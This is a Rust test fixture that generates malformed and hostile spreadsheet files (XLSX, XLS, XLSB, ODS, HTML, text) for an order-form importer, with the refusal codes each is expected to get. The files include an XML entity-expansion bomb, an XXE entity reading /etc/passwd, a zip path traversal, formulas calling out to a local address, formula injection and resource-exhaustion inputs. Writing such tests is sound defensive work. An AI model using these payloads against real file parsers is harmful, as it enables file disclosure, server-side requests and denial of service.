//! Files sent as an order form that do harm, or are something else, in every format that is read; and a few that are merely
//! odd and have to be taken. Each with what whoever opens it must answer, through whatever door it came.

use std::io::{Cursor, Write};
use std::sync::OnceLock;

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::binary::{self, xls, xlsb};
use super::{Parts, corpus, patched, sst};

/// A file and what may be said of it: codes of refusals, or `ok` where it is read.
#[derive(Clone, Copy)]
pub struct Sent {
    pub name: &'static str,
    pub bytes: &'static [u8],
    pub verdicts: &'static [&'static str],
}

/// All of them, made once; those of [`corpus`] among them.
pub fn forms() -> impl Iterator<Item = Sent> {
    static FORMS: OnceLock<Vec<Sent>> = OnceLock::new();
    let known = corpus().iter().map(|file| {
        // What only the import refuses, for it takes XLSX alone, or of a hidden sheet.
        let verdicts = match file.name {
            "text" | "a web page" | "hidden sheets only" => &["ok"][..],
            "the format of before 2007" => &["sheet_unreadable"],
            _ => file.codes,
        };
        Sent { name: file.name, bytes: &file.bytes, verdicts }
    });
    known.chain(FORMS.get_or_init(make).iter().copied())
}

fn archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        archive.start_file(*name, SimpleFileOptions::default()).expect("an entry begins");
        archive.write_all(bytes).expect("an entry is written");
    }
    archive.finish().expect("the archive is finished").into_inner()
}

fn ods(content: &str) -> Vec<u8> {
    ods_with(content, "")
}

fn ods_with(content: &str, manifest: &str) -> Vec<u8> {
    let manifest = format!(
        r#"<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{manifest}</manifest:file-entry></manifest:manifest>"#
    );
    archive(&[
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", content.as_bytes()),
        ("META-INF/manifest.xml", manifest.as_bytes()),
    ])
}

/// The content of an ODS with these rows.
fn tables(rows: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="Goods">{rows}</table:table></office:spreadsheet></office:body></office:document-content>"#
    )
}

const ONE: &str = r#"<table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>"#;

/// Excel's XML of 2003.
fn old_xml(before: &str, table: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0"?>{before}<?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="List"><Table>{table}</Table></Worksheet></Workbook>"#
    )
    .into_bytes()
}

const LAUGHS: &str = r#"<!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>"#;

fn make() -> Vec<Sent> {
    let file = |name: &'static str, bytes: Vec<u8>, verdicts: &'static [&'static str]| Sent { name, bytes: bytes.leak(), verdicts };
    let plain = || Parts::new(r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#);
    let inline = |text: &str| format!(r#"<c t="inlineStr"><is><t>{text}</t></is></c>"#);
    let table =
        |code: &str, quantity: &str| Parts::new(&format!("<row>{}{}</row><row>{}{quantity}</row>", inline("Code"), inline("Quantity"), inline(code))).zip();
    let utf16 = |text: &str| [vec![0xff, 0xfe], text.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat();
    let mut all = of_texts(&file, &utf16);
    all.extend(of_pages(&file));
    all.extend(of_binary_formats(&file));
    all.extend(of_open_documents(&file));

    let mut many_sheets = plain();
    let sheets: String = (2..=80).map(|at| format!(r#"<sheet name="S{at}" sheetId="{at}" r:id="rId1"/>"#)).collect();
    many_sheets.workbook = many_sheets.workbook.replace("</sheets>", &format!("{sheets}</sheets>"));
    let mut many_names = plain();
    let names: String = (0..100_000).map(|at| format!(r#"<definedName name="N{at}">Goods!$A$1:$A$9</definedName>"#)).collect();
    many_names.workbook = many_names.workbook.replace("</sheets>", &format!("</sheets><definedNames>{names}</definedNames>"));
    let mut misleading = plain();
    misleading.workbook = misleading.workbook.replace("</sheets>", r#"</sheets><definedNames><definedName name="OF_QTY">Goods!$XFD$1:$XFD$1048576</definedName><definedName name="OF_FORM_ID">Goods!$A$4294967295</definedName></definedNames>"#);
    let merged: String = (1..=100_000).map(|at| format!(r#"<mergeCell ref="A{at}:C{at}"/>"#)).collect();
    let with_sheet = |rows: &str, behind: &str| {
        Parts::raw_sheet(format!(r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData>{behind}</worksheet>"#)).zip()
    };
    let mut leading_out = plain();
    leading_out.relations = leading_out.relations.replace("worksheets/sheet1.xml", "../../../../../etc/passwd");
    let mut to_the_web = plain();
    to_the_web.relations = to_the_web.relations.replace(r#"Target="worksheets/sheet1.xml""#, r#"Target="http://127.0.0.1:9/sheet.xml" TargetMode="External""#);
    let row = |cells: &str| Parts::new(&format!("<row>{cells}</row>")).zip();
    all.extend([
        file("80 sheets", many_sheets.zip(), &["sheet_cells"]),
        file("a hundred thousand names", many_names.zip(), &["ok"]),
        file("names that lead beyond all cells", misleading.zip(), &["ok"]),
        file("a hundred thousand merged areas", with_sheet("<row><c><v>1</v></c></row>", &format!("<mergeCells>{merged}</mergeCells>")), &["ok"]),
        file("properties of 100 MiB", plain().with("docProps/custom.xml", &vec![b'x'; 100 << 20]).zip(), &["ok"]),
        file("properties that laugh", plain().with("docProps/core.xml", format!("<?xml version=\"1.0\"?>{LAUGHS}<x><keywords>&e;</keywords></x>").as_bytes()).zip(), &["ok"]),
        file("a footer of 50 MiB", with_sheet("<row><c><v>1</v></c></row>", &format!("<headerFooter><oddFooter>{}</oddFooter></headerFooter>", "x".repeat(50 << 20))), &["ok"]),
        file("a million formats", plain().with("xl/styles.xml", format!(r#"<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts>{}</numFmts></styleSheet>"#, r#"<numFmt numFmtId="200" formatCode="0"/>"#.repeat(1_000_000)).as_bytes()).zip(), &["ok", "sheet_memory", "sheet_time"]),
        file("a drawing of 100 MiB", plain().with("xl/drawings/drawing1.xml", &vec![b' '; 100 << 20]).zip(), &["ok"]),
        file("a part of the workbook that is a file of the server's", leading_out.zip(), &["not_a_sheet", "sheet_unreadable"]),
        file("a part of the workbook that is on the web", to_the_web.zip(), &["not_a_sheet", "sheet_unreadable"]),
        file("numbers no machine holds", row("<c><v>1e999</v></c><c><v>-1e999</v></c><c><v>5e-324</v></c><c><v>99999999999999999999999999</v></c>"), &["ok"]),
        file("numbers that are none", row("<c><v>0x10</v></c>"), &["sheet_unreadable", "ok"]),
        file("a formula that calls out", row(r#"<c t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>1</v></c>"#), &["ok"]),
        file("a formula of 1 MiB", row(&format!("<c><f>{}1</f><v>1</v></c>", "1+".repeat(1 << 19))), &["ok"]),
        file("code with another alphabet's letters", table("АВС-1", "<c><v>1</v></c>"), &["ok"]),
        file("code written from right to left, with signs of no width", table("\u{202e}1-\u{200b}A\u{feff}\u{200f}", "<c><v>1</v></c>"), &["ok"]),
        file("quantity in Arabic digits", table("A-1", &inline("١٢")), &["ok"]),
        file("quantity that is a formula for a spreadsheet", table("=1+1", &inline("=HYPERLINK(\"http://127.0.0.1:9\")")), &["ok"]),
        file("an attribute of 10 MiB", Parts::raw_sheet(format!(r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row x="{}"><c><v>1</v></c></row></sheetData></worksheet>"#, "y".repeat(10 << 20))).zip(), &["ok", "sheet_unreadable"]),
        file("a filled sheet of 100 000 rows and 15 columns", Parts::new(&format!("<row>{}</row>", "<c><v>1</v></c>".repeat(15)).repeat(100_000)).zip(), &["ok", "sheet_cells"]),
        file("a million rows that may all order something", Parts::new(&format!("<row>{}</row>", "<c><v>1</v></c>".repeat(3)).repeat(190_000)).zip(), &["sheet_cells"]),
        file("a workbook in an archive", archive(&[("order.xlsx", &plain().zip())]), &["not_a_sheet"]),
        file("a letter in Word's format", archive(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]), &["not_a_sheet", "sheet_unreadable"]),
        file("an archive of nothing", archive(&[]), &["not_a_sheet"]),
        file("macros under another name", patched(plain().with("xl/VbaProject.BIN", b"macro").zip(), b"xl/VbaProject.BIN", b"xl/VBAPROJECT.bin"), &["sheet_macros"]),
        file("strings within strings", Parts::strings(sst(r#"count="1""#, &format!("<si>{}<t>x</t></si>", "<r>".repeat(200_000)))).zip(), &["ok", "sheet_unreadable", "sheet_memory"]),
    ]);
    all
}

type Make<'a> = &'a dyn Fn(&'static str, Vec<u8>, &'static [&'static str]) -> Sent;

fn of_texts(file: Make<'_>, utf16: &dyn Fn(&str) -> Vec<u8>) -> Vec<Sent> {
    vec![
        file("text in UTF-16", utf16("Артикул;Кол-во\nA-1;5\n"), &["ok"]),
        file(
            "half a letter of UTF-16",
            {
                let mut bytes = utf16("Код;Кол-во\nA;5\n");
                bytes.pop();
                bytes
            },
            &["ok", "sheet_unreadable"],
        ),
        file("text with noughts in it", b"Code;Qty\nA\0\0-1;5\n\0\0\0\0;\0\n".to_vec(), &["ok", "not_a_sheet", "sheet_unreadable"]),
        file("blanks alone", vec![b' '; 1 << 20], &["not_a_sheet"]),
        file("one cell of 20 MiB", vec![b'x'; 20 << 20], &["ok", "sheet_unreadable"]),
        file("70 columns of text", "1;".repeat(70).into_bytes(), &["sheet_columns"]),
        file("a million empty columns", ";".repeat(1_000_000).into_bytes(), &["ok", "not_a_sheet"]),
        file("a quote that never ends", [b"Code;Qty\nA;\"5".to_vec(), vec![b'\n'; 5 << 20]].concat(), &["ok", "sheet_unreadable"]),
        file("five million quotes", vec![b'"'; 5 << 20], &["ok", "sheet_unreadable"]),
        file("200 001 lines of text", "A;1\n".repeat(200_001).into_bytes(), &["sheet_rows", "sheet_cells"]),
        file("a mail", b"From: a@b.example\r\nSubject: order\r\n\r\nA-1;5\r\n".to_vec(), &["ok"]),
        file("a document to print", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< >>\nendobj\n".to_vec(), &["not_a_sheet", "sheet_unreadable", "ok"]),
        file(
            "a picture",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89".to_vec(),
            &["not_a_sheet", "sheet_unreadable", "ok"],
        ),
        file("a program", [b"\x7fELF\x02\x01\x01\0".to_vec(), (0..=255).cycle().take(10_000).collect()].concat(), &["not_a_sheet", "sheet_unreadable", "ok"]),
    ]
}

fn of_pages(file: Make<'_>) -> Vec<Sent> {
    let page = |body: &str| format!("<html><body>{body}</body></html>").into_bytes();
    vec![
        file(
            "tables within tables within tables",
            page(&"<table><tr><td>".repeat(200_000)),
            &["ok", "sheet_unreadable", "sheet_cells", "sheet_rows", "sheet_columns"],
        ),
        file("a cell as wide as a billion columns", page("<table><tr><td colspan=1000000000>1</td><td>2</td></tr></table>"), &["sheet_columns", "ok"]),
        file("a cell as high as a billion rows", page("<table><tr><td rowspan=1000000000>1</td></tr></table>"), &["ok"]),
        file("a page of three million cells", page(&format!("<table>{}</table>", format!("<tr>{}", "<td>1".repeat(50)).repeat(60_000))), &["sheet_cells"]),
        file("a page with a script", page("<script>while(true);</script><table><tr><td>Code<td>Qty<tr><td>A-1<td>5</table>"), &["ok"]),
        file("a comment that never ends", page(&format!("<table><tr><td>1</table><!--{}", "-".repeat(10 << 20))), &["ok"]),
        file("an attribute that never ends", page(&format!("<table><tr><td x=\"{}", "y".repeat(10 << 20))), &["ok"]),
        file("a drawing of curves", b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>".to_vec(), &["not_a_sheet"]),
        file("old XML that laughs", old_xml(LAUGHS, "<Row><Cell><Data>&e;</Data></Cell></Row>"), &["ok", "sheet_unreadable"]),
        file(
            "old XML with a file of the server's",
            old_xml(r#"<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>"#, "<Row><Cell><Data>&f;</Data></Cell></Row>"),
            &["ok", "sheet_unreadable"],
        ),
        file(
            "old XML with a row four billion",
            old_xml("", r#"<Row ss:Index="4294967295"><Cell><Data>1</Data></Cell></Row>"#),
            &["sheet_rows", "sheet_unreadable"],
        ),
        file(
            "old XML with a column four billion",
            old_xml("", r#"<Row><Cell ss:Index="4294967295"><Data>1</Data></Cell></Row>"#),
            &["sheet_columns", "sheet_unreadable"],
        ),
        file(
            "old XML merged across a billion",
            old_xml("", r#"<Row><Cell ss:MergeAcross="1000000000"><Data>1</Data></Cell><Cell><Data>2</Data></Cell></Row>"#),
            &["sheet_columns", "sheet_unreadable"],
        ),
        file("old XML a million deep", old_xml("", &"<Row>".repeat(1_000_000)), &["ok", "sheet_unreadable", "sheet_memory", "sheet_rows"]),
    ]
}

fn of_binary_formats(file: Make<'_>) -> Vec<Sent> {
    use binary::{compound_file, label, number, part, row, xls_record, xls_stream};
    let cells = [label(0, 0, "Code"), label(0, 1, "Quantity"), label(1, 0, "A-1"), number(1, 1, 5.0)].concat();
    let rows = [row(0, &[(0, Err("Code")), (1, Err("Quantity"))]), row(1, &[(0, Err("A-1")), (1, Ok(5.0))])].concat();
    let billions = [&4_000_000_000_u32.to_le_bytes()[..], &4_000_000_000_u32.to_le_bytes()].concat();
    let mut cut = xls(&[], &cells);
    cut.truncate(1_600);
    vec![
        file("an XLS by hand", xls(&[], &cells), &["ok"]),
        file(
            "an XLS whose sectors go round and round",
            compound_file("Workbook", xls_stream(&[], &cells), |chain| chain[3] = 2),
            &["sheet_unreadable", "sheet_memory", "sheet_time", "ok"],
        ),
        file(
            "an XLS whose directory is its own next",
            compound_file("Workbook", xls_stream(&[], &cells), |chain| chain[1] = 1),
            &["sheet_unreadable", "sheet_memory", "sheet_time"],
        ),
        file(
            "an XLS whose sectors lie beyond its end",
            compound_file("Workbook", xls_stream(&[], &cells), |chain| chain[4] = 0x00ff_ffff),
            &["sheet_unreadable", "sheet_memory"],
        ),
        file(
            "an XLS with its first and last cell",
            xls(&[], &[number(0, 0, 1.0), number(65_535, 255, 1.0)].concat()),
            &["sheet_memory", "sheet_columns", "sheet_unreadable"],
        ),
        file("an XLS with four billion strings", xls(&xls_record(0x00fc, &billions), &cells), &["sheet_unreadable", "sheet_memory", "ok"]),
        file("an XLS with a password", xls(&xls_record(0x002f, &[1, 0, 1, 0, 1, 0]), &cells), &["sheet_encrypted", "sheet_unreadable"]),
        file("an XLS cut off", cut, &["sheet_unreadable"]),
        file("a record that goes beyond its stream", xls(&[0xfc, 0x00, 0xff, 0xff], &cells), &["sheet_unreadable", "ok"]),
        file("a compound file of something else", compound_file("WordDocument", vec![0; 4096], |_| {}), &["sheet_unreadable"]),
        file("an XLSB by hand", xlsb(&rows, None), &["ok"]),
        file("an XLSB with a row four billion", xlsb(&row(u32::MAX, &[(0, Ok(1.0))]), None), &["sheet_rows", "sheet_unreadable", "ok"]),
        file("an XLSB with a column four billion", xlsb(&row(0, &[(u32::MAX, Ok(1.0))]), None), &["sheet_columns", "sheet_unreadable"]),
        file("an XLSB with four billion strings", xlsb(&rows, Some(part(159, &billions))), &["sheet_unreadable", "sheet_memory", "ok"]),
        file(
            "an XLSB with a text of two gigabytes",
            xlsb(&[part(0, &[0; 17]), part(6, &[0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x7f])].concat(), None),
            &["sheet_unreadable", "sheet_memory"],
        ),
        file("an XLSB whose record goes beyond its end", xlsb(&[0x00, 0xff, 0xff, 0xff, 0x7f, 0x00], None), &["sheet_unreadable", "sheet_memory"]),
    ]
}

fn of_open_documents(file: Make<'_>) -> Vec<Sent> {
    let row = |cells: &str| format!("<table:table-row>{cells}</table:table-row>");
    let repeated = |rows: &str, columns: &str| {
        ods(&tables(&format!(
            r#"<table:table-row table:number-rows-repeated="{rows}"><table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>"#
        )))
    };
    let locked = r#"<manifest:encryption-data><manifest:algorithm manifest:algorithm-name="AES256"/></manifest:encryption-data>"#;
    let laughing =
        tables(&row(r#"<table:table-cell office:value-type="string"><text:p>&e;</text:p></table:table-cell>"#)).replacen("?>", &format!("?>{LAUGHS}"), 1);
    vec![
        file("an ODS by hand", ods(&tables(&row(ONE))), &["ok"]),
        file("an ODS with one row a million times", repeated("1048576", "10"), &["sheet_rows", "sheet_cells", "sheet_memory", "sheet_unreadable"]),
        file("an ODS with one cell four billion times", repeated("1", "4294967295"), &["sheet_columns", "sheet_memory", "sheet_unreadable", "sheet_time"]),
        file(
            "an ODS with the last row and column repeated",
            repeated("4294967295", "4294967295"),
            &["sheet_rows", "sheet_columns", "sheet_cells", "sheet_memory", "sheet_unreadable", "sheet_time"],
        ),
        file("an ODS with a negative number of rows", repeated("-1", "1"), &["sheet_unreadable", "ok"]),
        file("an ODS with a password", ods_with(&tables(&row(ONE)), locked), &["sheet_encrypted", "sheet_unreadable"]),
        file("an ODS that laughs", ods(&laughing), &["ok", "sheet_unreadable"]),
        file("an ODS without content", archive(&[("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("styles.xml", b"<x/>")]), &["not_a_sheet"]),
        file(
            "an ODS a million deep",
            ods(&tables(&row(&format!(r#"<table:table-cell office:value-type="string"><text:p>{}"#, "<text:span>".repeat(1_000_000))))),
            &["sheet_unreadable", "sheet_memory", "sheet_time", "ok"],
        ),
        file("an ODS that ends too early", ods("<office:document-content><office:body><office:spreadsheet><table:table>"), &["sheet_unreadable", "ok"]),
    ]
}
